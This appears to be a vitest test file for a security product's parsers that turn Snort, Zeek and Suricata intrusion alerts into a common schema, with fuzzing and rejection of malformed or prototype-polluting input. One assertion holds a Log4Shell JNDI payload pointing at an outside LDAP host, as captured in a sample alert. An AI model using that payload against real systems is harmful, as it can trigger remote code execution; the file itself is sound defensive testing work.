import { readFileSync } from "node:fs";
import path from "node:path";
import { IdsAlertV1 } from "@vigil/schema";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { parseSnortAlertJson, snortTimeToIso } from "./snort.ts";
import { parseSuricataEve } from "./suricata.ts";
import { parseZeekNoticeJson, ZeekNoticeParser } from "./zeek.ts";

const examples = path.resolve(import.meta.dirname, "../../../examples/ids");
const read = (name: string) => readFileSync(path.join(examples, name), "utf8").split("\n").filter(Boolean);
const now = () => new Date("2024-03-12T12:00:00Z");

function alertOf(result: { status: string; alert?: IdsAlertV1; reason?: string }): IdsAlertV1 {
  if (result.status !== "alert" || result.alert === undefined)
    throw new Error(`expected an alert, got ${JSON.stringify(result)}`);
  return IdsAlertV1.parse(result.alert);
}

describe("Snort 3 alert_json", () => {
  it("normalises every example line into the OCSF paths", () => {
    const alerts = read("snort-alert_json.txt").map((line) =>
      alertOf(parseSnortAlertJson(line, { sensor: "snort-dmz", now })),
    );
    expect(alerts).toHaveLength(5);
    expect(alerts[0]).toMatchObject({
      time: 1_710_232_924_118,
      time_dt: "2024-03-12T08:42:04.118412Z",
      src_endpoint: { ip: "203.0.113.45", port: 51_734 },
      dst_endpoint: { ip: "172.16.10.5", port: 443 },
      connection_info: { protocol_name: "tcp", direction: "Inbound" },
      finding_info: {
        title: "SERVER-OTHER Apache Log4j logging remote code execution attempt",
        analytic: { uid: "58722", version: "7", category: "Attempted Administrator Privilege Gain" },
      },
      severity: "high",
      severity_id: 4,
      action: "Allowed",
      device: { hostname: "snort-dmz", interface_name: "eth1" },
      asset_ip: "172.16.10.5",
      app_protocol: "http",
      metadata: { product: { name: "Snort" }, log_name: "alert_json" },
      unmapped: { gid: 1, priority: 1 },
    });
    expect(alerts[0]!.payload_printable).toContain("${jndi:ldap://198.51.100.9:1389/a}");
    expect(alerts[1]).toMatchObject({ action: "Denied", action_id: 2 });
    expect(alerts[2]).toMatchObject({
      finding_info: { analytic: { uid: "1" } },
      unmapped: { gid: 122 },
      severity: "low",
    });
    expect(alerts[3]!.src_endpoint).toEqual({ ip: "10.20.9.77" });
    expect(alerts[4]!.cves).toEqual(["CVE-2017-0144"]);
    expect(new Set(alerts.map((alert) => alert.id)).size).toBe(5);
    expect(alertOf(parseSnortAlertJson(read("snort-alert_json.txt")[0]!, { sensor: "snort-dmz" })).id).toBe(
      alerts[0]!.id,
    );
  });

  it("takes sid, gid and rev from `rule` and the time from `timestamp` when the fields are not configured", () => {
    const alert = alertOf(
      parseSnortAlertJson(
        JSON.stringify({ rule: "1:2000:3", msg: "X", timestamp: "03/12-08:42:04.5", src_addr: "10.1.1.1" }),
        { now },
      ),
    );
    expect(alert).toMatchObject({
      finding_info: { analytic: { uid: "2000", version: "3" } },
      unmapped: { gid: 1 },
      time_dt: "2024-03-12T08:42:04.500000Z",
      asset_ip: "10.1.1.1",
    });
    expect(alert.dst_endpoint).toBeUndefined();
  });

  it("reads a year-less timestamp in the previous year across new year", () => {
    expect(snortTimeToIso("12/31-23:59:59.1", new Date("2025-01-01T00:00:10Z"))).toBe(
      "2024-12-31T23:59:59.100000Z",
    );
    expect(snortTimeToIso("24/02/29-10:00:00", new Date())).toBe("2024-02-29T10:00:00.000000Z");
    expect(snortTimeToIso("02/30-10:00:00", new Date("2024-05-01T00:00:00Z"))).toBeUndefined();
  });

  it.each([
    ['{"msg":"x","seconds":1}', "sid: expected a signature id"],
    ['{"sid":1,"seconds":1}', "msg: expected string"],
    ['{"sid":1,"msg":"x"}', "seconds: expected a time"],
    ['{"sid":1,"msg":"x","timestamp":"yesterday"}', "timestamp: expected a time like"],
    ['{"sid":"1","msg":"x","seconds":1}', "sid: expected number, got string"],
    ['{"sid":1,"msg":"x","seconds":1,"src_addr":"10.0.0.300"}', "src_addr: expected an IP address"],
    ['{"sid":1,"msg":"x","seconds":1,"rule":"a:b"}', "rule: expected gid:sid:rev"],
    ['{"sid":1,"msg":"x","seconds":1,"__proto__":{"a":1}}', "__proto__: key not allowed in a Snort alert"],
    ['{"sid":1,', "not valid JSON"],
    ["[1]", "expected a JSON object"],
  ])("refuses %s", (line, reason) => {
    const result = parseSnortAlertJson(line);
    expect(result.status).toBe("invalid");
    if (result.status === "invalid") expect(result.reason).toContain(reason);
  });
});

describe("Zeek notice.log", () => {
  it("reads the TSV writer's header and rows into alerts, headers as ignored", () => {
    const parser = new ZeekNoticeParser({ now });
    const results = read("zeek-notice.log").map((line) => parser.parse(line));
    expect(results.filter((result) => result.status === "ignored")).toHaveLength(9);
    const alerts = results.filter((result) => result.status === "alert").map(alertOf);
    expect(alerts).toHaveLength(3);
    expect(alerts[0]).toMatchObject({
      time: 1_710_234_125_118,
      time_dt: "2024-03-12T09:02:05.118412Z",
      finding_info: {
        title: "192.0.2.77 scanned at least 15 unique ports of host 172.16.10.5 in 0m4s",
        analytic: { uid: "Scan::Port_Scan", type: "Behavioral" },
      },
      src_endpoint: { ip: "192.0.2.77" },
      dst_endpoint: { ip: "172.16.10.5" },
      asset_ip: "172.16.10.5",
      device: { hostname: "zeek-dmz" },
      severity: "medium",
      unmapped: { sub: "local", actions: ["Notice::ACTION_LOG"] },
    });
    expect(alerts[1]).toMatchObject({
      src_endpoint: { ip: "10.20.9.77", port: 49_822 },
      dst_endpoint: { ip: "10.20.1.10", port: 445 },
      connection_info: { protocol_name: "tcp", uid: "CHhAvVGS1DHFjwGM9", direction: "Lateral" },
      unmapped: { actions: ["Notice::ACTION_LOG", "Notice::ACTION_EMAIL"] },
    });
    expect(alerts[2]).toMatchObject({ src_endpoint: { ip: "10.20.9.77" }, asset_ip: "10.20.9.77" });
    expect(alerts[2]!.dst_endpoint).toBeUndefined();
  });

  it("reads the JSON writer's lines to the same alerts as the TSV ones", () => {
    const tsv = new ZeekNoticeParser({ now });
    const fromTsv = read("zeek-notice.log")
      .map((line) => tsv.parse(line))
      .filter((result) => result.status === "alert")
      .map(alertOf);
    const fromJson = read("zeek-notice.json").map((line) => alertOf(parseZeekNoticeJson(line, { now })));
    expect(fromJson.map((alert) => alert.finding_info.analytic.uid)).toEqual(
      fromTsv.map((alert) => alert.finding_info.analytic.uid),
    );
    expect(fromJson[0]!.id).toBe(fromTsv[0]!.id);
    expect(fromJson[1]!.time_dt).toBe(fromTsv[1]!.time_dt);
    expect(fromJson[2]!.time_dt).toBe("2024-03-12T10:01:00.000101Z");
    // The TSV parser takes JSON lines too (a source can switch writers).
    expect(tsv.parse(read("zeek-notice.json")[0]!).status).toBe("alert");
  });

  it("refuses rows without a header, with the wrong field count, and hostile headers", () => {
    const parser = new ZeekNoticeParser();
    expect(parser.parse("1710234125.1\t-\tScan::Port_Scan")).toMatchObject({
      status: "invalid",
      reason: expect.stringContaining("before any #fields header"),
    });
    parser.parse("#fields\tts\tnote\tmsg");
    parser.parse("#types\ttime\tenum\tstring");
    expect(parser.parse("1710234125.1\tScan::Port_Scan\tscan").status).toBe("alert");
    expect(parser.parse("1710234125.1\tScan::Port_Scan")).toMatchObject({
      status: "invalid",
      reason: "expected 3 tab-separated fields as #fields says, got 2",
    });
    expect(parser.parse("abc\tScan::Port_Scan\tscan")).toMatchObject({
      status: "invalid",
      reason: expect.stringContaining("ts:"),
    });
    expect(parser.parse("#fields\tts\t__proto__")).toMatchObject({ status: "invalid" });
    expect(parser.parse("#path\tconn")).toMatchObject({
      status: "invalid",
      reason: '#path: expected notice, got "conn"',
    });
    expect(parser.parse("#separator ab")).toMatchObject({ status: "invalid" });
    parser.reset();
    expect(parser.hasHeader).toBe(false);
    expect(parseZeekNoticeJson('{"ts":1,"note":7}')).toMatchObject({
      status: "invalid",
      reason: expect.stringContaining("note: expected string"),
    });
    expect(parseZeekNoticeJson(Buffer.from([0x7b, 0xff, 0xfe]))).toMatchObject({
      status: "invalid",
      kind: "encoding",
    });
  });
});

describe("every IDS parser, fuzzed", () => {
  const valid = (result: { status: string; alert?: unknown; event?: unknown }) => {
    if (result.status === "alert") expect(IdsAlertV1.safeParse(result.alert).success).toBe(true);
    expect(["alert", "context", "ignored", "invalid"]).toContain(result.status);
  };
  const snortLine = read("snort-alert_json.txt")[0]!;
  const zeekJson = read("zeek-notice.json")[1]!;
  const zeekTsv = read("zeek-notice.log");

  /** Arbitrary bytes, arbitrary JSON, and the real lines with one value replaced by anything. */
  const inputs = (sample: string) =>
    fc.oneof(
      fc.uint8Array({ maxLength: 300 }).map((bytes) => Buffer.from(bytes)),
      fc.string({ maxLength: 200 }),
      fc.jsonValue().map((value) => JSON.stringify(value)),
      fc
        .tuple(fc.constantFrom(...Object.keys(JSON.parse(sample) as object)), fc.jsonValue())
        .map(([key, value]) => JSON.stringify({ ...(JSON.parse(sample) as object), [key]: value })),
      fc.nat({ max: sample.length }).map((cut) => sample.slice(0, cut)),
    );

  it("Snort: no exception escapes, every alert is schema-valid", () => {
    fc.assert(
      fc.property(inputs(snortLine), (input) => valid(parseSnortAlertJson(input))),
      { numRuns: 2000 },
    );
  });

  it("Zeek: no exception escapes from JSON lines nor from any TSV header/row sequence", () => {
    fc.assert(
      fc.property(inputs(zeekJson), (input) => valid(parseZeekNoticeJson(input))),
      { numRuns: 1500 },
    );
    const tsvLine = fc.oneof(
      fc.constantFrom(...zeekTsv),
      fc
        .array(
          fc.oneof(fc.string({ maxLength: 20 }), fc.constantFrom("-", "(empty)", "#fields", "T", "1.5")),
          { maxLength: 30 },
        )
        .map((parts) => parts.join("\t")),
    );
    fc.assert(
      fc.property(fc.array(tsvLine, { maxLength: 20 }), (lines) => {
        const parser = new ZeekNoticeParser();
        for (const line of lines) valid(parser.parse(line));
      }),
      { numRuns: 500 },
    );
  });

  it("Suricata: no exception escapes for alert, anomaly and context lines", () => {
    const samples = [
      read("../suricata/eve.json").find((line) => line.includes('"alert"'))!,
      read("../suricata/eve.json").find((line) => line.includes('"anomaly"'))!,
      read("../suricata/eve.json").find((line) => line.includes('"event_type":"http"'))!,
    ];
    for (const sample of samples)
      fc.assert(
        fc.property(inputs(sample), (input) => valid(parseSuricataEve(input))),
        { numRuns: 700 },
      );
  });
});
